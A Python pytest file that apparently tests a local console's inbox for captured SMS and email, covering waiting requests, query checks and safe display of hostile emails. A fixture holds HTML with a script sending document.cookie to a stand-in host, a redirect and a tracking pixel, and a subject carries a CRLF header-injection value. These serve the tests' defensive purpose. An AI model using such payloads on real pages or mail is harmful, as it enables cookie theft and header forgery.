"""The console's inbox: waiting for messages, and what a hostile email can do."""

import threading
import time
from concurrent.futures import Future, ThreadPoolExecutor
from datetime import UTC, datetime
from email import message_from_string, policy
from typing import Any

import httpx
import pytest

from infra.local import inbox
from infra.local.captured import message
from tests.builders.local_servers import Stack

ANA = "+15005550010"
HOSTILE = """<!doctype html><html><head><meta http-equiv=refresh content="0;url=https://evil.example">
<script>fetch("https://evil.example/" + document.cookie)</script>
<style>@media (prefers-color-scheme: dark) { p { color: white } }</style></head>
<body onload="alert(1)"><img src="https://evil.example/pixel"><form action="https://evil.example">
<p>\ud800 text</p></form></body></html>"""


def add(stack: Stack, to: str = ANA, text: str = "Your code is 123456") -> str:
    """Captures an SMS; returns its id."""
    captured = message("sms", to, None, text)
    stack.server.inbox.add(captured)
    return str(captured["id"])


def email(message_id: str = "m-1", html: str = "<p>Hello</p>", at: float = 0) -> dict[str, Any]:
    """An email as the emulator has it."""
    return {
        "MessageId": message_id,
        "To": ["ana@example.com"],
        "Source": "Our app <no-reply@example.com>",
        "Subject": "Grüße\r\nX-Injected: yes",
        "BodyText": "Hello, Ana",
        "BodyHtml": html,
        "Timestamp": at or time.time(),
    }


def texts(answer: httpx.Response) -> list[str]:
    assert answer.status_code == 200, answer.text
    return [each["text"] for each in answer.json()]


def waiting(stack: Stack, query: str, pool: ThreadPoolExecutor) -> "Future[httpx.Response]":
    """Asks for a message, and returns once the request waits."""
    free = stack.server.inbox._waiting._value
    asked = pool.submit(stack.client.get, f"/_local/inbox?{query}")
    deadline = time.monotonic() + 30
    while stack.server.inbox._waiting._value == free and not asked.done():
        assert time.monotonic() < deadline
        time.sleep(0.01)
    return asked


def test_a_request_waits_for_a_message_to_its_destination(stack: Stack) -> None:
    with ThreadPoolExecutor() as pool:
        asked = waiting(stack, f"to={ANA}&wait=30", pool)
        add(stack, "+15005550011", "for somebody else")
        assert not asked.done()
        add(stack)
        assert texts(asked.result()) == ["Your code is 123456"]


def test_a_message_that_is_there_already_is_answered_at_once(stack: Stack) -> None:
    """So a test that sends first and asks then cannot miss its message."""
    add(stack, text="old")
    add(stack, text="new")
    assert texts(stack.client.get(f"/_local/inbox?to={ANA}&wait=60")) == ["new", "old"]


def test_after_excludes_that_message_and_earlier_ones(stack: Stack) -> None:
    add(stack, text="first")
    second = add(stack, text="second")
    query = f"to={ANA}&after={second}"
    assert texts(stack.client.get(f"/_local/inbox?{query}")) == []
    with ThreadPoolExecutor() as pool:
        asked = waiting(stack, f"{query}&wait=30", pool)
        add(stack, text="third")
        assert texts(asked.result()) == ["third"]


def test_messages_of_the_same_millisecond_are_told_apart(stack: Stack) -> None:
    at = "2026-11-24T12:00:00.000Z"
    known = [message("sms", ANA, None, text) | {"sent_at": at} for text in ("first", "second")]
    for each in known:
        stack.server.inbox.add(each)
    assert texts(stack.client.get("/_local/inbox")) == ["second", "first"]
    after = stack.client.get(f"/_local/inbox?after={known[0]['id']}&wait=5")
    assert texts(after) == ["second"]


def test_since_excludes_what_was_sent_before(stack: Stack) -> None:
    stack.server.inbox.add(
        message("sms", ANA, None, "old") | {"sent_at": "2026-11-24T12:00:00.000Z"}
    )
    now = datetime.now(UTC).isoformat()
    add(stack, text="new")
    for since in (now, now.replace("+00:00", "Z"), "2026-11-24T12:00:00.001Z"):
        assert texts(stack.client.get(f"/_local/inbox?since={since}")) == ["new"]
    since = "2026-11-24T13:00:00.000%2B01:00"
    assert texts(stack.client.get(f"/_local/inbox?since={since}")) == ["new", "old"]


def test_no_message_in_time_is_an_empty_list(stack: Stack) -> None:
    add(stack)
    assert texts(stack.client.get("/_local/inbox?to=nobody@example.com&wait=0.05")) == []


@pytest.mark.parametrize(
    "query",
    ["wait=-1", "wait=61", "wait=nan", "wait=x", "since=today", "since=2026-01-31", "after=x"],
)
def test_a_query_that_cannot_be_is_said(query: str, stack: Stack) -> None:
    answer = stack.client.get(f"/_local/inbox?{query}")
    assert answer.status_code == 400
    assert answer.json()["message"]


def test_only_so_many_requests_wait_at_once(stack: Stack, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(stack.server.inbox, "_waiting", threading.Semaphore(1))
    with ThreadPoolExecutor() as pool:
        first = waiting(stack, "wait=30", pool)
        refused = stack.client.get("/_local/inbox?wait=30")
        assert (refused.status_code, refused.headers["content-type"]) == (503, "application/json")
        add(stack)
        assert len(texts(first.result())) == 1
    assert texts(stack.client.get("/_local/inbox?to=nobody@example.com&wait=0.05")) == []


def test_one_poll_of_the_emulator_serves_all_that_wait(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(inbox, "_POLL_SECONDS", 0.02)
    found = stack.server.inbox.watch()
    threading.Thread(target=lambda: list(found), daemon=True).start()
    with ThreadPoolExecutor() as pool:
        asked = [waiting(stack, "to=ana@example.com&wait=30", pool) for _ in range(3)]
        stack.emails.append(email())
        assert [texts(each.result()) for each in asked] == [["Hello, Ana"]] * 3


def test_nothing_in_a_hostile_email_runs_or_loads(stack: Stack) -> None:
    stack.emails.append(email(html=HOSTILE))
    answer = stack.client.get("/_local/inbox/m-1/html")
    assert answer.status_code == 200
    policy = answer.headers["content-security-policy"].split("; ")
    assert policy[:2] == ["sandbox", "default-src 'none'"]
    assert set(policy[2:]) == {
        "style-src 'unsafe-inline'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'self'",
    }
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_an_email_is_shown_in_light_and_dark(stack: Stack) -> None:
    stack.emails.append(email(html=HOSTILE))
    shown = {
        scheme: stack.client.get(f"/_local/inbox/m-1/html?scheme={scheme}").text
        for scheme in ("light", "dark", "")
    }
    assert "@media all {" in shown["dark"]
    assert "@media not all {" in shown["light"]
    assert "@media (prefers-color-scheme: dark) {" in shown[""]


def test_the_source_of_an_email_is_mime_that_a_subject_cannot_forge(stack: Stack) -> None:
    stack.emails.append(email())
    answer = stack.client.get("/_local/inbox/m-1/source")
    assert answer.headers["content-type"] == "text/plain; charset=utf-8"
    parsed = message_from_string(answer.text, policy=policy.default)
    assert parsed["subject"] == "Grüße X-Injected: yes"
    assert parsed["x-injected"] is None
    kinds = [part.get_content_type() for part in parsed.walk()]
    assert kinds == ["multipart/alternative", "text/plain", "text/html"]
    assert stack.client.get("/_local/inbox/m-1/source").text == answer.text


def test_a_message_without_html_has_a_text_only(stack: Stack) -> None:
    message_id = add(stack)
    assert stack.client.get(f"/_local/inbox/{message_id}/html").status_code == 404
    assert stack.client.get(f"/_local/inbox/{message_id}/source").text == "Your code is 123456"
    assert stack.client.get("/_local/inbox/none/source").status_code == 404
